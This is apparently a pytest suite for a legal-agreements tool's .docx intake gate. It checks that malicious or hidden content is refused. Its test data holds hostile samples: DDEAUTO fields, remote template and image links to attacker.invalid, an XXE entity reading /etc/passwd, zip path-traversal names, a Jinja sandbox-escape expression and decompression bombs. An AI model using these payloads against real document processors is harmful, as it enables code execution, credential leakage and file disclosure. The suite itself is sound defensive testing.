"""What a Word file may not hold when it comes in."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from contextlib import suppress
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agreements.diagnostics import FindingsError
from agreements.intake import open_house
from agreements.intake.gate import MOST_PART_BYTES, MOST_PARTS
from agreements.rendering.docx import fresh_house
from tests.rendering.docx_files import changed, packed, parts

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused_ids(data: bytes) -> set[str]:
    """The ids of the findings about the file, each of which names it."""
    with pytest.raises(FindingsError) as caught:
        open_house(data, "clinic.docx")
    assert {finding.location.file for finding in caught.value.report} == {"clinic.docx"}
    return {finding.id for finding in caught.value.report}


def with_part(name: str, data: bytes) -> bytes:
    """A fresh house style with one more part."""
    return packed({**parts(fresh_house()), name: data})


def with_body(markup: str) -> bytes:
    """A fresh house style with more at the start of its body."""
    return changed(fresh_house(), lambda text: text.replace("<w:body>", f"<w:body>{markup}", 1))


def with_relationship(attributes: str) -> bytes:
    """A fresh house style whose document has one more relationship."""
    entry = f'<Relationship Id="rId99" {attributes}/></Relationships>'
    return changed(fresh_house(), lambda text: text.replace("</Relationships>", entry), "word/_rels/document.xml.rels")


def field(*pieces: str) -> str:
    """A complex field whose instruction is spread over runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def text(words: str, look: str = "") -> str:
    """A paragraph of one run."""
    return f"<w:p><w:r><w:rPr>{look}</w:rPr><w:t>{words}</w:t></w:r></w:p>"


_IMAGE = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://attacker.invalid/x.png"/>'
BAD_CONTENT: list[tuple[str, str]] = [
    (field("DDEAUTO c:\\\\x.exe"), "field"),
    (field("D", "DE", "AUTO x"), "field"),
    (field("INCLUDETEXT &quot;c:\\\\x.docx&quot;"), "field"),
    (field("INCLUDEPICTURE &quot;http://attacker.invalid/x.png&quot;"), "field"),
    (field("LINK Excel.Sheet x"), "field"),
    (field("DATE"), "field"),
    (field("HYPERLINK &quot;file:///c:/x&quot;"), "field"),
    ('<w:p><w:fldSimple w:instr=" DDEAUTO x "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>', "field"),
    ('<w:altChunk r:id="rId99"/>', "active"),
    ("<w:p><w:r><w:object/></w:r></w:p>", "active"),
    ("<w:p><w:r><w:control/></w:r></w:p>", "active"),
    (text("secret", "<w:vanish/>"), "hidden"),
    (text("secret", '<w:color w:val="FFFFFF"/>'), "hidden"),
    (text("secret", '<w:sz w:val="2"/>'), "hidden"),
    (text("secret", '<w:sz w:val="1pt"/>'), "hidden"),
    (text("secret", '<w:sz w:val="0.5"/>'), "hidden"),
    ('<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>new</w:t></w:r></w:ins></w:p>', "hidden"),
    ('<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>old</w:delText></w:r></w:del></w:p>', "hidden"),
    (text("{# the clause that vanishes #}"), "text-mismatch"),
    (text("{{ cycler.__init__.__globals__ }}"), "sandbox"),
    (text("{{frame._private}}"), "sandbox"),
    (text("{{ agreement.title }}"), "undefined"),
    (text("{% for party in frame.parties %}"), "template-syntax"),
    (text("{% endif %}"), "template-syntax"),
    (field(f"LINK {'x' * 100}"), "field"),
    ('<w:background w:color="101010"/>', "hidden"),
    (text("secret", '<w:rFonts w:ascii="Wingdings"/>'), "hidden"),
    (f"<w:p><w:r><w:pict>{_IMAGE}</w:pict></w:r></w:p>", "external"),
    ("<w:sdt><w:sdtPr><w:dataBinding/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>", "active"),
]
_XMLNS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_LIST = '<w:abstractNum><w:lvl><w:start w:val="4000000000"/></w:lvl></w:abstractNum>'


@pytest.mark.parametrize(("markup", "id_"), BAD_CONTENT)
def test_content_that_acts_hides_or_breaks_is_refused(markup: str, id_: str) -> None:
    """Plain libraries keep all of it in every agreement made."""
    assert id_ in refused_ids(with_body(markup))


GOOD_CONTENT = [
    text("plain", '<w:vanish w:val="0"/>'),
    text("white on dark", '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="1B3A5C"/>'),
    text("{{ frame[“title”] }}"),
    text("{{frame.title|upper}}"),
    text("{% if frame.watermark and not specimen %}x{% endif %}"),
    field("PA", "GE"),
    field('HYPERLINK "https://www.gov.uk"'),
    "<w:p><w:r><w:rPr><w:webHidden/></w:rPr><w:t>3</w:t></w:r></w:p>",
]


@pytest.mark.parametrize("markup", GOOD_CONTENT)
def test_content_that_only_looks_bad_comes_in(markup: str) -> None:
    """Word writes such things by itself, and people use them."""
    assert open_house(with_body(markup)).docx


BAD_RELATIONSHIPS = [
    (f'Type="{OFFICE}/attachedTemplate" Target="http://attacker.invalid/x.dotm" TargetMode="External"', "external"),
    (f'Type="{OFFICE}/image" Target="file://///attacker.invalid/x.png" TargetMode="External"', "external"),
    (f'Type="{OFFICE}/hyperlink" Target="file:///c:/x.exe" TargetMode="External"', "external"),
    (f'Type="{OFFICE}/aFChunk" Target="chunk.html"', "active"),
    (f'Type="{OFFICE}/oleObject" Target="x.bin"', "active"),
]


@pytest.mark.parametrize(("attributes", "id_"), BAD_RELATIONSHIPS)
def test_what_reaches_outside_is_refused(attributes: str, id_: str) -> None:
    """A remote template is fetched, with the reader's password, when the agreement is opened."""
    assert id_ in refused_ids(with_relationship(attributes))


@pytest.mark.parametrize("address", ["https://www.gov.uk/", "http://example.org/", "mailto:clerk@example.org"])
def test_a_link_to_the_web_comes_in(address: str) -> None:
    """It does nothing until somebody clicks."""
    made = with_relationship(f'Type="{OFFICE}/hyperlink" Target="{address}" TargetMode="External"')

    assert open_house(made).docx


BAD_PARTS = [
    ("word/vbaProject.bin", b"x", "active"),
    ("word/embeddings/oleObject1.bin", b"x", "active"),
    ("word/activeX/activeX1.xml", b"<x/>", "active"),
    ("../../evil.txt", b"x", "zip"),
    ("/abs.txt", b"x", "zip"),
    ("word\\evil.txt", b"x", "zip"),
    ("WORD/DOCUMENT.XML", b"<x/>", "zip"),
    ("word/more.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "xml"),
    ("word/more.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16"), "xml"),
    ("word/more.xml", b"<x>", "xml"),
    ("word/comments.xml", b"<x>{{ frame.title }}</x>", "unrendered"),
    ("docProps/more.xml", b"<x>{{ frame.title }}</x>", "unrendered"),
    ("word/notes.xml", f"<w:comments {_XMLNS}><w:comment/></w:comments>".encode(), "hidden"),
    ("word/lists.xml", f"<w:numbering {_XMLNS}>{_LIST}</w:numbering>".encode(), "format"),
]


@pytest.mark.parametrize(("name", "data", "id_"), BAD_PARTS)
def test_a_part_that_has_no_place_is_refused(name: str, data: bytes, id_: str) -> None:
    """By its name or by what is in it."""
    assert id_ in refused_ids(with_part(name, data))


def test_comments_are_refused() -> None:
    """They would go out with every agreement."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    comments = f'<w:comments xmlns:w="{space}"><w:comment w:id="1"/></w:comments>'.encode()

    assert refused_ids(with_part("word/comments.xml", comments)) == {"hidden"}


def test_a_part_that_is_there_twice_is_refused() -> None:
    """Two readers would read two different texts."""
    target = BytesIO(fresh_house())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(target, "a") as archive:
        archive.writestr("word/document.xml", b"<x/>")

    assert refused_ids(target.getvalue()) == {"zip"}


def test_a_part_without_a_name_is_refused() -> None:
    """Python 3.11 raises IndexError at one."""
    data = with_part("x", b"")
    nameless = data.replace(b"x", b"\0") if data.count(b"x") == 2 else _renamed(data)

    assert refused_ids(nameless) == {"zip"}


def _renamed(data: bytes) -> bytes:
    """The last part's one-letter name as a NUL, in both places where a zip writes it."""
    target = bytearray(data)
    local = data.rindex(b"PK\3\4")
    central = data.rindex(b"PK\1\2")
    target[local + 30] = 0
    target[central + 46] = 0
    return bytes(target)


def test_a_zip_that_lies_about_its_size_is_refused() -> None:
    """Counted are the bytes that come out."""
    data = bytearray(with_part("word/media/zeros.png", b"\0" * (MOST_PART_BYTES + 1)))
    central = data.rindex(b"PK\1\2")
    data[central + 24 : central + 28] = struct.pack("<L", 10)

    assert refused_ids(bytes(data)) <= {"zip", "format"}


def test_a_part_that_unpacks_to_too_much_is_refused() -> None:
    """300 MB of zeros fit into 300 kB."""
    assert refused_ids(with_part("word/media/zeros.png", b"\0" * (MOST_PART_BYTES + 1))) == {"zip"}


def test_too_many_parts_are_refused() -> None:
    """Before any of them is read."""
    many = {f"word/x{number}.xml": b"<x/>" for number in range(MOST_PARTS + 1)}

    assert refused_ids(packed({**parts(fresh_house()), **many})) == {"zip"}


NOT_WORD = [
    b"",
    b"hello",
    b"%PDF-1.7",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    packed({}),
    packed({"mimetype": b"application/vnd.oasis.opendocument.text"}),
    packed({"[Content_Types].xml": b"<Types/>"}),
]


@pytest.mark.parametrize("data", NOT_WORD)
def test_what_is_no_word_file_is_told_in_one_sentence(data: bytes) -> None:
    """Not with BadZipFile or KeyError."""
    assert refused_ids(data) == {"format"}


@pytest.mark.parametrize("length", [10, 100, 1000, 4000, -1, -30])
def test_a_file_that_is_cut_off_is_refused(length: int) -> None:
    """A download that stopped."""
    assert refused_ids(fresh_house()[:length]) <= {"format", "zip"}


@given(place=st.integers(0, 8000), byte=st.integers(0, 255))
def test_any_bytes_are_a_house_style_or_findings(place: int, byte: int) -> None:
    """Never another exception."""
    data = bytearray(fresh_house())
    data[place % len(data)] = byte

    with suppress(FindingsError):
        open_house(bytes(data))


def test_everything_wrong_is_told_at_once() -> None:
    """A lawyer corrects a file once, not six times."""
    bad: Callable[[str], str] = lambda text_: text_.replace(  # noqa: E731
        "<w:body>", f"<w:body>{field('DDE x')}{text('secret', '<w:vanish/>')}", 1
    )

    assert refused_ids(changed(with_part("word/vbaProject.bin", b"x"), bad)) == {"active", "field", "hidden"}


ODD_VALUES = [
    ("word/styles.xml", 'w:before="', 'w:before="wide'),
    ("word/styles.xml", 'w:before="', 'w:before="nan" w:x="'),
    ("word/styles.xml", '<w:color w:val="', '<w:color w:val="red;} p {display: none;} x {'),
    ("word/styles.xml", 'w:fill="', 'w:fill="url(x)'),
    ("word/styles.xml", '<w:numId w:val="', "<w:numId w:val=\"'"),
    ("word/document.xml", '<w:pgSz w:w="', '<w:pgSz w:w="wide'),
    ("word/document.xml", ' r:id="', ' r:id="nowhere'),
]
"""A part, a piece of it, and what stands there instead. Each would end in a traceback or in the page's style sheet."""


@pytest.mark.parametrize(("name", "old", "new"), ODD_VALUES)
def test_a_value_that_word_never_writes_is_a_finding(name: str, old: str, new: str) -> None:
    """The gate lets it pass, for it is neither active nor hidden; whoever reads it must not stumble."""
    sound = fresh_house()
    made = changed(sound, lambda text: text.replace(old, new), name)
    assert made != sound

    assert refused_ids(made) == {"format"}
